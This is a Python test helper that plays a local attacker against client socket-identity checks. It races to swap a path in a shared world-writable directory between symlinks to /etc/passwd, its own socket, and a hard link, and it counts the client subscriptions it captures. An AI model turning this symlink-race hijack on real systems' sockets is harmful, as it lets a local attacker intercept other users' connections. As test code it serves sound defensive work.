"""The symlink-flipping attacker of the clients' socket-identity tests.

Run as a foreign uid (runuser -u nobody -- python3 -c "$(cat attacker.py)"
MODE SHARED TARGET [LEGIT_DIR]) by the Python, Node and Go client tests. It
listens on sockets of its own, acks every sub it receives (a client that
subscribes here believes it reached its hub: a capture), and flips TARGET as
fast as it can:

  final  TARGET (in the sticky, world-writable directory SHARED) is, in
         turn, a symlink to /etc/passwd, a symlink to the attacker's socket,
         and the attacker's socket itself (a hard link);
  dir    TARGET is SHARED/link/NAME, and SHARED/link is, in turn, a symlink
         to LEGIT_DIR (where the real hub listens) and to the attacker's
         directory (where its socket of the same NAME listens).

It prints "ready" once its sockets listen, and "captures N" (the subs it
received) when its stdin closes. Standard library only.
"""

import json
import os
import socket
import struct
import sys
import threading

mode, shared, target = sys.argv[1], sys.argv[2], sys.argv[3]
legit = sys.argv[4] if len(sys.argv) > 4 else ""
name = os.path.basename(target)
mine = os.path.join(shared, "atk-%d" % os.getpid())
os.mkdir(mine, 0o755)
captures = 0
lock = threading.Lock()
stop = False


def frame(msg):
    body = json.dumps(msg).encode()
    return struct.pack(">I", len(body)) + body


def serve(c):
    global captures
    try:
        c.sendall(frame({"t": "status", "healthy": True}))
        buf = b""
        while True:
            data = c.recv(65536)
            if not data:
                return
            buf += data
            while len(buf) >= 4:
                (n,) = struct.unpack(">I", buf[:4])
                if len(buf) < 4 + n:
                    break
                m = json.loads(buf[4 : 4 + n])
                buf = buf[4 + n :]
                if m.get("t") == "sub":
                    with lock:
                        captures += 1
                    c.sendall(frame({"t": "ack", "q": m["q"]}))
    except OSError:
        pass
    finally:
        c.close()


def listen(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.bind(path)
    s.listen(128)

    def accept():
        while True:
            c, _ = s.accept()
            threading.Thread(target=serve, args=(c,), daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()


sock = os.path.join(mine, name)
listen(sock)


def replace(make, tmp):
    try:
        os.unlink(tmp)
    except FileNotFoundError:
        pass
    make(tmp)
    os.rename(tmp, target if mode == "final" else os.path.join(shared, "link"))


def flip():
    tmp = os.path.join(shared, "atk-tmp-%d" % os.getpid())
    if mode == "final":
        states = [
            lambda p: os.symlink("/etc/passwd", p),
            lambda p: os.symlink(sock, p),
            lambda p: os.link(sock, p),
        ]
    else:
        states = [lambda p: os.symlink(legit, p), lambda p: os.symlink(mine, p)]
    i = 0
    while not stop:
        replace(states[i % len(states)], tmp)
        i += 1


threading.Thread(target=flip, daemon=True).start()
print("ready", flush=True)
sys.stdin.read()
stop = True
with lock:
    print("captures %d" % captures, flush=True)
